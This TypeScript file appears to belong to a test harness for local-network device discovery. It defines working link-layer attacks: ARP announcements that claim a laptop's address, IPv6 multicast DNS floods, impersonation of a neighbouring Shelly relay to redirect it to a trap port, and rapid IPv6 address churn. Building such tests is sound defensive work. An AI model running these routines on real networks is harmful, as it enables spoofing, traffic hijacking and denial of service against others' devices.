import { execFileSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import type { Attack, Liar } from '../attack.ts'
import { a, record, response, service, TYPE } from '../dns.ts'
import { ipOf, LAPTOP, LIAR, RELAY, RELAY_IS, SPEAKER, TRAP } from '../places.ts'
import { MDNS, send } from '../voice.ts'

/** Below the protocols: addresses two machines have at once, announcements nobody asked for (RFC 5227), IPv6. */

const own = ipOf(LIAR)
const relay = ipOf(RELAY)
const SECONDS = 10
/** RFC 6762, 3: multicast DNS over IPv6. */
const MDNS6 = 'ff02::fb'

const ip = (...words: string[]) => execFileSync('ip', words)

/** Says again and again, unasked, that `address` is at the liar's MAC: Linux does so whenever a card comes up. */
async function announce(by: Liar, address: string): Promise<void> {
  execFileSync('sysctl', ['-qw', 'net.ipv4.conf.lan0.arp_notify=1'])
  for (let i = 0; i < SECONDS * 2; i++) {
    ip('addr', 'replace', `${address}/24`, 'dev', 'lan0')
    ip('link', 'set', 'lan0', 'down')
    ip('link', 'set', 'lan0', 'up')
    await by.wait(0.5)
  }
}

/** Pours multicast DNS over IPv6 from the liar's link-local address. */
async function pour6(by: Liar, messages: readonly Buffer[], perSecond: number): Promise<void> {
  const socket = createSocket({ type: 'udp6', reuseAddr: true })
  socket.on('error', () => undefined)
  await new Promise<void>((bound) => socket.bind(MDNS.port, '::', bound))
  socket.setMulticastInterface('::%lan0')
  socket.setMulticastTTL(255)
  const group = Math.max(1, Math.ceil(perSecond / 50))
  for (let sent = 0; sent < perSecond * SECONDS; ) {
    for (let i = 0; i < group; i++)
      await send(socket, messages[sent++ % messages.length]!, MDNS.port, `${MDNS6}%lan0`)
    await by.wait(0.02)
  }
}

const thing = (i: number): Buffer =>
  service({
    type: '_http._tcp',
    instance: `Thing ${i}`,
    host: `thing-${i}.local`,
    ip: own,
    port: 80,
    txt: [`model=T${i}`],
  })

export const linkAttacks: readonly Attack[] = [
  {
    id: 'link-announces-the-laptop',
    tries: 'announcements that the laptop’s own address is at the liar’s MAC',
    run: (by) => announce(by, ipOf(LAPTOP)),
  },
  {
    id: 'link-mdns6-names',
    tries: 'two thousand names a second over IPv6',
    run: (by) =>
      pour6(
        by,
        Array.from({ length: 5_000 }, (_, i) => thing(i)),
        2_000,
      ),
  },
  {
    id: 'link-mdns6-of-another',
    tries: 'the service, host and address of an honest neighbour over IPv6, with another firmware',
    run: (by) =>
      pour6(
        by,
        [
          service({
            type: '_shelly._tcp',
            instance: RELAY_IS.host.toLowerCase(),
            host: `${RELAY_IS.host}.local`,
            ip: relay,
            port: TRAP,
            txt: ['gen=2', 'app=Plus2PM', 'ver=0.0.9'],
          }),
          response(
            a(`${RELAY_IS.host}.local`, relay),
            a(`${RELAY_IS.host}.local`, ipOf(SPEAKER)),
            record(
              Buffer.from('\u0005liar6\u0005local\u0000'),
              TYPE.AAAA,
              Buffer.from(`fe80${'0'.repeat(16)}${'009a00fffe000001'.slice(4)}`, 'hex'),
            ),
          ),
        ],
        20,
      ),
  },
  {
    id: 'link-addresses6-without-end',
    tries: 'a new IPv6 address of its own ten times a second, each announced',
    async run(by) {
      for (let i = 0; i < SECONDS * 10; i++) {
        ip('-6', 'addr', 'replace', `fe80::66:${(i + 1).toString(16)}/64`, 'dev', 'lan0')
        await by.wait(0.1)
      }
    },
  },
]
